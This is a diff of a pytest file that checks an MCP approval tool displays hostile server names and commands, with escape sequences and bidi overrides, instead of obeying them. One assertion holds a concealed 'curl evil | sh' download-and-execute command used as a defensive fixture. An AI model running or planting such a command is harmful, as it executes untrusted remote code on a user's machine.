@@ -25,10 +25,9 @@ import pytest
 from rich.console import Console
 
 from agentcontext.local import approval
-from agentcontext.mcp_config import parse
 from agentcontext.mcp_secrets import shown
 from agentcontext.terminal import PlainFormatter, visible
-from agentcontext.testing import make_workspace, skill_md
+from agentcontext.testing import make_workspace, skill_md, test_config
 from agentcontext.trust import TrustStore
 from tests.cli.test_commands import run
 
@@ -80,7 +79,8 @@ def test_a_command_shows_hostile_names_as_written_without_failing_or_sending_esc
     work = hostile(tmp_path)
     done = run(*args, str(work), cwd=work, home=home)
     assert "Traceback" not in done.stderr and "MarkupError" not in done.stderr, done.stderr
-    assert done.returncode in (0, 1), done.stderr  # audit and explain may say "not ok"
+    # audit and explain may say "not ok"; approving with nobody to ask is refused (the servers shown first)
+    assert done.returncode in ((2,) if args == ("mcp", "trust", "--work-dir") else (0, 1)), done.stderr
     assert ESC not in done.stdout and ESC not in done.stderr
     assert RLO not in done.stdout and RLO not in done.stderr
     out = done.stdout.replace("\n", "")  # a table may fold a long cell
@@ -94,20 +94,21 @@ def test_scan_shows_an_escape_sequence_in_a_name_as_its_code(tmp_path: Path, hom
     assert "b\\u001b[2J.md" in done.stdout.replace("\n", "").replace("│", "").replace(" ", "")
 
 
-def test_the_approval_question_of_up_shows_every_character_of_what_would_run(tmp_path: Path) -> None:
+def test_the_approval_question_of_up_shows_every_character_of_what_would_run(tmp_path: Path, home: Path) -> None:
     work = hostile(tmp_path)
-    specs = list(parse((work / ".mcp.json").read_bytes(), str(work / ".mcp.json"), {}).servers)
+    store = TrustStore(tmp_path / "trust.json")
+    waiting = approval.pending(work, test_config(work, home=home), store)
     out = io.StringIO()
-    approved = approval.ask(specs, work, TrustStore(tmp_path / "trust.json"), Console(file=out, width=300), None)
+    approved = approval.ask(waiting, work, store, Console(file=out, width=300), None)
     assert approved is False
     text = out.getvalue()
     assert ESC not in text
     assert "srv[/u]\\u001bx" in text and "safe\\u001b[8m; curl evil | sh" in text  # nothing concealed
     # the command it prints to approve later shows every character, and pasted into a shell names that server
     quoted = "$'srv[/u]\\x1bx'"
-    assert text.rstrip().endswith(quoted)
+    assert text.rstrip().endswith(f"{quoted} --digest {waiting[0].launch.digest}")
     pasted = subprocess.run(["bash", "-c", f"printf %s {quoted}"], capture_output=True, check=True).stdout
-    assert pasted.decode() == specs[0].name
+    assert pasted.decode() == waiting[0].launch.name
 
 
 def test_a_bidi_override_in_an_mcp_command_is_shown_not_obeyed() -> None:
